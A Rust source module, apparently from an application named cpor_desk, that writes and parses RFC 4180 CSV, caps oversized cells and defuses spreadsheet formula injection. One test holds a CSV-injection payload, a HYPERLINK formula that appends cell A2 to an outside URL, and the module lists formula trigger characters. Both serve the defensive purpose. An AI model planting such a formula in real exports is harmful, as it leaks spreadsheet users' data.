//! RFC 4180 text: writing one record, splitting a file into records (see
//! the module docs of [`super`] for the rules), and the reversible
//! defusing of spreadsheet formulas.

use std::borrow::Cow;

/// One CSV record and its CRLF.
pub(super) fn write_record(out: &mut String, fields: &[&str]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        if field.contains(['"', ',', '\r', '\n']) {
            out.push('"');
            out.push_str(&field.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(field);
        }
    }
    out.push_str("\r\n");
}

/// One CSV record as read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Record {
    /// The line it starts on (1-based).
    pub line: usize,
    pub fields: Vec<String>,
    /// A misplaced or unclosed quote.
    pub malformed: bool,
    /// Positions of fields longer than [`MAX_CELL_CHARS`], cut there.
    pub long: Vec<usize>,
}

impl Record {
    /// Blank: nothing but whitespace in every field (an empty line, or a
    /// spreadsheet's `,,,,`).
    fn is_blank(&self) -> bool {
        !self.malformed && self.fields.iter().all(|f| f.trim().is_empty())
    }
}

/// The most characters kept of one cell: more than any column may hold
/// (the longest text of a claim), so a hostile 100 MB cell never becomes a
/// 100 MB string; a longer cell is cut and reported (`text.too_long`).
pub(super) const MAX_CELL_CHARS: usize = crate::domain::intake::MAX_NOTE_CHARS;

/// The field being read, cut at [`MAX_CELL_CHARS`].
#[derive(Default)]
struct Cell {
    text: String,
    chars: usize,
}

impl Cell {
    fn push(&mut self, c: char) {
        if self.chars < MAX_CELL_CHARS {
            self.text.push(c);
        }
        self.chars += 1;
    }

    /// Ends the field: its text, and whether it was cut.
    fn take(&mut self) -> (String, bool) {
        let long = self.chars > MAX_CELL_CHARS;
        self.chars = 0;
        (std::mem::take(&mut self.text), long)
    }
}

/// The records of RFC 4180 text, one at a time (blank ones skipped), so a
/// caller can read a few and come back for more. Lenient where it must go
/// on (a misplaced quote is kept as text) but flags it.
pub(super) struct Records<'t> {
    text: &'t str,
    pos: usize,
    line: usize,
}

impl<'t> Records<'t> {
    pub fn new(text: &'t str) -> Records<'t> {
        Records {
            text: text.strip_prefix('\u{feff}').unwrap_or(text),
            pos: 0,
            line: 1,
        }
    }

    /// Bytes read so far, and in all.
    pub fn progress(&self) -> (usize, usize) {
        (self.pos, self.text.len())
    }

    fn read_one(&mut self) -> Option<Record> {
        let rest = &self.text[self.pos..];
        if rest.is_empty() {
            return None;
        }
        let mut chars = rest.char_indices().peekable();
        let mut record = Record {
            line: self.line,
            fields: Vec::new(),
            malformed: false,
            long: Vec::new(),
        };
        let end_field = |record: &mut Record, cell: &mut Cell| {
            let (text, long) = cell.take();
            if long {
                record.long.push(record.fields.len());
            }
            record.fields.push(text);
        };
        let mut cell = Cell::default();
        // Inside an open quoted field.
        let mut quoted = false;
        // Nothing read yet in this field.
        let mut at_start = true;
        // The field's closing quote has been read.
        let mut closed = false;
        let end = loop {
            let Some((i, c)) = chars.next() else {
                record.malformed |= quoted;
                end_field(&mut record, &mut cell);
                break rest.len();
            };
            let next = chars.peek().map(|&(_, c)| c);
            if quoted {
                match c {
                    '"' if next == Some('"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => {
                        quoted = false;
                        closed = true;
                    }
                    '\r' => {
                        cell.push('\r');
                        if next == Some('\n') {
                            chars.next();
                            cell.push('\n');
                        }
                        self.line += 1;
                    }
                    '\n' => {
                        cell.push('\n');
                        self.line += 1;
                    }
                    _ => cell.push(c),
                }
                continue;
            }
            match c {
                ',' => {
                    end_field(&mut record, &mut cell);
                    at_start = true;
                    closed = false;
                }
                '\r' | '\n' => {
                    let mut end = i + 1;
                    if c == '\r' && next == Some('\n') {
                        chars.next();
                        end += 1;
                    }
                    self.line += 1;
                    end_field(&mut record, &mut cell);
                    break end;
                }
                '"' if at_start => {
                    quoted = true;
                    at_start = false;
                }
                _ => {
                    record.malformed |= closed || c == '"';
                    cell.push(c);
                    at_start = false;
                }
            }
        };
        self.pos += end;
        Some(record)
    }
}

impl Iterator for Records<'_> {
    type Item = Record;

    fn next(&mut self) -> Option<Record> {
        loop {
            let record = self.read_one()?;
            if !record.is_blank() {
                return Some(record);
            }
        }
    }
}

/// Splits RFC 4180 text into records (blank ones skipped).
#[cfg(test)]
pub(super) fn read_records(text: &str) -> Vec<Record> {
    Records::new(text).collect()
}

/// A character that makes a spreadsheet read a cell as a formula when it
/// comes first (OWASP "CSV Injection"): `=`, `+`, `-`, `@`, tab, CR.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// A cell defused for spreadsheets: `'` before a value that matches
/// `^'*[=+\-@\t\r]`, so no cell starts with a formula character, and a
/// value that already starts with quotes before one stays distinct.
/// [`restore_formula`] undoes it exactly.
///
/// ```
/// use cpor_desk::domain::bulk::{defuse_formula, restore_formula};
/// assert_eq!(defuse_formula("=1+2"), "'=1+2");
/// assert_eq!(defuse_formula("+46 8 123 456"), "'+46 8 123 456");
/// assert_eq!(defuse_formula("''@x"), "'''@x");
/// assert_eq!(defuse_formula("'quoted"), "'quoted");
/// assert_eq!(restore_formula("'=1+2"), "=1+2");
/// assert_eq!(restore_formula("'quoted"), "'quoted");
/// ```
pub fn defuse_formula(value: &str) -> Cow<'_, str> {
    if value.trim_start_matches('\'').starts_with(is_trigger) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A cell read back: one leading `'` removed from a value that matches
/// `^'+[=+\-@\t\r]` (what [`defuse_formula`] adds, or what a spreadsheet
/// user types to keep `=…` as text).
pub fn restore_formula(value: &str) -> Cow<'_, str> {
    match value.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(is_trigger) => Cow::Borrowed(rest),
        _ => Cow::Borrowed(value),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_only_where_needed() {
        let mut out = String::new();
        write_record(
            &mut out,
            &["plain", "a,b", "say \"hi\"", "cr\rx", "lf\nx", "", " sp "],
        );
        assert_eq!(
            out,
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"cr\rx\",\"lf\nx\",, sp \r\n"
        );
    }

    #[test]
    fn formulas_are_defused_and_restored_exactly() {
        for (value, cell) in [
            (
                "=HYPERLINK(\"http://x?\"&A2,\"Click me\")",
                "'=HYPERLINK(\"http://x?\"&A2,\"Click me\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("\tTAB", "'\tTAB"),
            ("\rCR", "'\rCR"),
            ("'=x", "''=x"),
            ("'", "'"),
            ("'plain", "'plain"),
            ("a=b", "a=b"),
            (" =x", " =x"),
            ("", ""),
        ] {
            assert_eq!(defuse_formula(value), cell, "{value:?}");
            assert_eq!(restore_formula(cell), value, "{cell:?}");
        }
    }

    #[test]
    fn long_cells_are_cut_and_records_come_one_at_a_time() {
        let x = "x".repeat(MAX_CELL_CHARS + 5);
        let y = "y".repeat(MAX_CELL_CHARS + 1);
        let text = format!("a,{x},\"{y}\"\r\nnext");
        let recs = read_records(&text);
        assert_eq!(recs[0].long, [1, 2]);
        assert_eq!(recs[0].fields[1].chars().count(), MAX_CELL_CHARS);
        assert_eq!(recs[1].fields, ["next"]);
        assert!(recs[1].long.is_empty());
        let mut it = Records::new("a\r\n\r\nb\r\n");
        assert_eq!(it.next().unwrap().fields, ["a"]);
        assert_eq!(it.progress(), (3, 8));
        assert_eq!(it.next().unwrap().line, 3);
        assert!(it.next().is_none());
    }

    #[test]
    fn reader_edge_cases() {
        let recs = read_records(
            "\u{feff}a,b\r\n\r\n\"x,1\",\"multi\r\nline\"\n,\n  \n\"q\"\"q\",\"\"\r\nlast,\"cr\ronly\"",
        );
        let got: Vec<(usize, Vec<&str>, bool)> = recs
            .iter()
            .map(|r| {
                (
                    r.line,
                    r.fields.iter().map(String::as_str).collect(),
                    r.malformed,
                )
            })
            .collect();
        assert_eq!(
            got,
            vec![
                (1, vec!["a", "b"], false),
                (3, vec!["x,1", "multi\r\nline"], false),
                (7, vec!["q\"q", ""], false),
                (8, vec!["last", "cr\ronly"], false),
            ]
        );
        // Lone CR ends a line; no final line break is needed.
        let recs = read_records("a\rb\r");
        assert_eq!(recs.len(), 2);
        assert_eq!(recs[1].line, 2);
        // Malformed: a quote inside an unquoted field, text after a closing
        // quote, an unclosed quote (which runs to the end of the file).
        for bad in [
            "ab\"c,d",
            "\"ab\"c,d",
            "\"ab\" ,d",
            "a,\"open\r\nstill open",
        ] {
            let recs = read_records(bad);
            assert_eq!(recs.len(), 1, "{bad:?}");
            assert!(recs[0].malformed, "{bad:?}");
        }
        assert!(read_records("").is_empty());
        assert!(read_records("\u{feff}").is_empty());
        assert!(read_records("\r\n\n ,\t, \r\n").is_empty());
    }
}
